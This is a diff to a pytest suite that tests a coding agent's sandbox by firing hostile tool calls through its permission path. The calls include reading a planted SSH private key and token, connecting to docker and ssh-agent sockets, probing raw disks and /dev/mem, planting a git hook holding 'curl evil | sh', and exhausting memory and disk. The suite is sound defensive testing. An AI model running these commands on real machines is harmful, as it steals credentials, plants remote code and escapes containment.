@@ -1,10 +1,11 @@
 """Hostile tool calls against the sandbox: each must be refused or contained, and nothing outside may change.
 
 Every attack goes through the real path an agent's call takes (Permissions in --yes mode -> tool -> sandbox). An
-attack that needs an OS feature (network namespace, read-only mounts, PID namespace) is *expected* to be contained
-only when `Sandbox.isolation` says that feature is in effect; otherwise the suite reports it as not contained rather
-than pretending. The suite runs twice: with the strongest isolation this machine allows, and with no namespaces at
-all (what a machine without `unshare` gets). `pytest -s` prints the tried/contained counts.
+attack that needs an OS feature (network namespace, private root, PID namespace, memory cgroup) is *expected* to be
+contained only when `Sandbox.isolation` says that feature is in effect; otherwise the suite reports it as not
+contained rather than pretending. The suite runs three times: with the strongest isolation this machine allows; with
+no namespaces (what a machine without `unshare` gets) and no opt-in, where every command must be refused; and with no
+namespaces after the user opted in (`allow_unisolated=True`). `pytest -s` prints the tried/contained counts.
 """
 
 import hashlib
@@ -12,8 +13,10 @@ import os
 import signal
 import socket
 import subprocess
+import sys
+import threading
 import uuid
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 
 import pytest
 
@@ -31,9 +34,20 @@ class Env:
     outside: str  # a directory beside the workspace
     sentinel: str  # a file outside the workspace that nothing may change
     marker: str  # a unique string to find an attack's processes afterwards
+    fake_home: str  # a user's home beside the workspace: .ssh/id_rsa, an ssh-agent socket
+    bash_results: list = field(default_factory=list)
 
     def call(self, tool, **args):
-        return YES.call(TOOLS[tool], args, self.sandbox)
+        result = YES.call(TOOLS[tool], args, self.sandbox)
+        if tool == "Bash":
+            self.bash_results.append(result)
+        return result
+
+    def bash_refused(self) -> bool:
+        """Every command of the attack was refused, in one line, for want of isolation."""
+        return bool(self.bash_results) and all(
+            r.is_error and "allow_unisolated=True" in r.text and "\n" not in r.text for r in self.bash_results
+        )
 
 
 def refused(result) -> bool:
@@ -220,6 +234,110 @@ def remount_and_write(env):
     return not os.path.exists(f"{env.outside}/x"), r.text.replace("\n", " | ")
 
 
+def _listening_unix_socket(path: str) -> tuple[socket.socket, list[bool]]:
+    """A host service on a pathname UNIX socket; the list turns [True] when anything connects."""
+    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    server.bind(path)
+    server.listen(4)
+    server.settimeout(0.2)
+    accepted = [False]
+
+    def serve():
+        while True:
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            except OSError:
+                return  # closed
+            accepted[0] = True
+            conn.close()
+
+    threading.Thread(target=serve, daemon=True).start()
+    return server, accepted
+
+
+def unix_socket_connect(env):
+    """docker.sock, the session bus, an ssh-agent: pathname sockets the network namespace does not cover."""
+    paths = [os.path.join(env.outside, "docker.sock"), os.path.join(env.fake_home, ".ssh", "agent.sock")]
+    servers = [_listening_unix_socket(p) for p in paths]
+    try:
+        code = (
+            "import socket, sys\nfor p in sys.argv[1:]:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n"
+            "        s.connect(p); print('connected', p)\n    except OSError as e:\n        print('failed', e)"
+        )
+        r = env.call("Bash", command=f'python -c "{code}" {" ".join(paths)}; socat - UNIX:{paths[0]} </dev/null')
+    finally:
+        for server, _ in servers:
+            server.close()
+    connected = any(accepted[0] for _, accepted in servers) or "connected" in r.text
+    return not connected, r.text.replace("\n", " | ")
+
+
+def read_ssh_key_and_tokens(env):
+    key = os.path.join(env.fake_home, ".ssh", "id_rsa")
+    token = os.path.join(env.outside, "token.txt")
+    r = env.call("Bash", command=f"cat {key} {token} 2>&1; ls -A {env.fake_home} {env.outside} 2>&1; cp {token} .")
+    leaked = "PRIVATE KEY" in r.text or "tok-" in r.text or (env.sandbox.root / "token.txt").exists()
+    return not leaked, r.text.replace("\n", " | ")
+
+
+def read_real_home_dir(env):
+    """The user's real home (here, the test runner's) is absent, whatever $HOME says."""
+    real_home = os.path.expanduser("~")
+    names = sorted(os.listdir(real_home))[:20] if os.path.isdir(real_home) else []
+    r = env.call("Bash", command=f"ls -A {real_home} 2>&1")
+    seen = [n for n in names if n in r.text.split()]
+    visible = sorted(set(seen) - set(_prefixes_under(real_home)))
+    return not visible, f"visible: {visible} | {r.text[:100]}"
+
+
+def _prefixes_under(home: str) -> list[str]:
+    """Top-level names in the home that hold a Python prefix: bound read-only on purpose so python works."""
+    return [os.path.relpath(p, home).split("/")[0] for p in (sys.prefix, sys.base_prefix) if p.startswith(home + "/")]
+
+
+def read_block_device(env):
+    """Raw disks, kernel memory and the kernel log are not in the minimal /dev."""
+    devices = [d for d in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg") if os.path.exists(d)]
+    r = env.call("Bash", command="ls /dev; " + "; ".join(f"head -c 16 {d} | od -c | head -1" for d in devices))
+    listed = set(r.text.split())
+    extra = {d.rsplit("/", 1)[1] for d in devices} & listed
+    return not extra and "No such file" in r.text, r.text.replace("\n", " | ")[:200]
+
+
+def plant_git_hook(env):
+    hooks = env.sandbox.root / ".git" / "hooks"
+    r = env.call("Bash", command="echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
+    planted = (hooks / "pre-commit").exists()
+    if planted:
+        (hooks / "pre-commit").unlink()  # the next run's workspace must start clean
+    return not planted, r.text.replace("\n", " | ")
+
+
+def four_processes_of_one_gibibyte(env):
+    hold = "b = bytearray(2**30); import time; time.sleep(1); print('held')"
+    r = env.call("Bash", command=f'for i in 1 2 3 4; do python -c "{hold}" & done; wait')
+    return r.text.splitlines().count("held") == 0, r.text.splitlines()[-1][:100]
+
+
+def four_processes_under_the_per_process_limit(env):
+    """Each process stays under the per-process limit; only a whole-command limit stops 4 of them together."""
+    hold = "b = bytearray(150 * 2**20); import time; time.sleep(1.5); print('held')"
+    r = env.call("Bash", command=f'for i in 1 2 3 4; do python -c "{hold}" & done; wait')
+    return r.text.splitlines().count("held") < 4, f"{r.text.splitlines().count('held')} of 4 held 150 MiB"
+
+
+def many_files_fill_the_disk(env):
+    """Each file under the file-size limit; only the whole-command write bound stops the total."""
+    r = env.call("Bash", command="for i in $(seq 60); do head -c 5000000 /dev/zero > fill$i.bin; done")
+    files = list(env.sandbox.root.glob("fill*.bin"))
+    written = sum(p.stat().st_size for p in files)
+    for p in files:
+        p.unlink()
+    return written < 60 * 5_000_000 // 2, f"{written} bytes written | {r.text[:80]}"
+
+
 # (attack, the isolation feature it needs to be contained, or None when the sandbox must always contain it)
 ATTACKS = [
     (read_dotdot, None),
@@ -244,6 +362,14 @@ ATTACKS = [
     (network_to_localhost, "network_removed"),
     (write_outside, "readonly_outside"),
     (remount_and_write, "readonly_outside"),
+    (unix_socket_connect, "private_root"),
+    (read_ssh_key_and_tokens, "private_root"),
+    (read_real_home_dir, "private_root"),
+    (read_block_device, "private_root"),
+    (plant_git_hook, "private_root"),
+    (four_processes_of_one_gibibyte, None),
+    (four_processes_under_the_per_process_limit, "memory_limit"),
+    (many_files_fill_the_disk, None),
 ]
 
 
@@ -252,36 +378,58 @@ def sha256(path):
         return hashlib.sha256(f.read()).hexdigest()
 
 
-@pytest.mark.parametrize("isolate", [True, False], ids=["isolated", "no-namespaces"])
-def test_hostile_tool_calls_are_contained(tmp_path, monkeypatch, isolate):
+MODES = {  # name: (isolate, allow_unisolated)
+    "isolated": (True, False),
+    "no-namespaces": (False, False),  # what a host without namespaces gets: every command refused
+    "no-namespaces-opted-in": (False, True),  # the user accepted unisolated commands
+}
+
+
+@pytest.mark.parametrize("mode", list(MODES))
+def test_hostile_tool_calls_are_contained(tmp_path, monkeypatch, mode):
+    isolate, allow_unisolated = MODES[mode]
     monkeypatch.setenv("NANOCODE_SECURITY_SECRET", f"s3cret-{uuid.uuid4().hex}")
     outside = tmp_path / "outside"
     outside.mkdir()
     sentinel = outside / "sentinel.txt"
     sentinel.write_text("original content\n")
+    (outside / "token.txt").write_text(f"tok-{uuid.uuid4().hex}\n")
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n")
     watched = [str(sentinel), "/etc/passwd", "/etc/hostname"]
     before = {p: sha256(p) for p in watched if os.path.exists(p)}
     ws = tmp_path / "ws"
-    ws.mkdir()
+    (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
     (ws / "notes.txt").write_text("hello\n")
 
     sandbox = Sandbox(
         ws,
-        timeout_s=2,
+        timeout_s=3,
         max_output_bytes=64 * 1024,
-        memory_bytes=1024**3,
+        memory_bytes=256 * 1024**2,
         cpu_s=5,
         max_processes=32 if isolate else 16,
         max_file_bytes=10 * 1024**2,
+        max_write_bytes=32 * 1024**2,
         isolate=isolate,
+        allow_unisolated=allow_unisolated,
     )
     iso = sandbox.isolation
+    refusing = sandbox.unisolated_reason() is not None and not allow_unisolated
     rows, missed = [], []
     try:
         for attack, needs in ATTACKS:
-            env = Env(sandbox, str(outside), str(sentinel), f"nanocode-attack-{uuid.uuid4().hex[:12]}")
-            contained, detail = attack(env)
-            expected = needs is None or getattr(iso, needs)
+            env = Env(sandbox, str(outside), str(sentinel), f"nanocode-attack-{uuid.uuid4().hex[:12]}", str(home))
+            try:
+                contained, detail = attack(env)
+            except Exception as e:  # an attack that broke on unexpected output (e.g. a refusal) proves nothing
+                contained, detail = False, f"{type(e).__name__}: {e}"
+            if env.bash_results and refusing:
+                assert env.bash_refused(), f"{attack.__name__}: a command ran on a host that cannot isolate it"
+                contained, detail = True, f"refused: {env.bash_results[0].text}"
+            expected = needs is None or getattr(iso, needs) or refusing
             rows.append((attack.__name__, contained, expected, needs, detail))
             if expected and not contained:
                 missed.append(attack.__name__)
@@ -291,14 +439,12 @@ def test_hostile_tool_calls_are_contained(tmp_path, monkeypatch, isolate):
 
     after = {p: sha256(p) for p in before}
     n_contained = sum(contained for _, contained, *_ in rows)
-    print(f"\n[{'isolated' if isolate else 'no namespaces'}] isolation: {iso.describe()}")
+    print(f"\n[{mode}] isolation: {iso.describe()}")
     for name, contained, expected, needs, detail in rows:
         status = "contained" if contained else ("NOT CONTAINED" if expected else f"not contained (needs {needs})")
-        print(f"  {status:<40} {name:<32} {detail[:110]!r}")
+        print(f"  {status:<40} {name:<44} {detail[:100]!r}")
     print(f"  => {n_contained}/{len(rows)} hostile calls contained; files outside unchanged: {after == before}")
     assert after == before, "a file outside the workspace changed"
     assert not missed, f"not contained although the sandbox claims the isolation for it: {missed}"
-    expected_total = sum(1 for _, _, expected, _, _ in rows if expected)
-    assert n_contained >= expected_total
-    if isolate and iso.network_removed and iso.pid_namespace and iso.readonly_outside:
+    if isolate and sandbox.unisolated_reason() is None and iso.memory_limit:
         assert n_contained == len(rows)  # full isolation: every attack contained
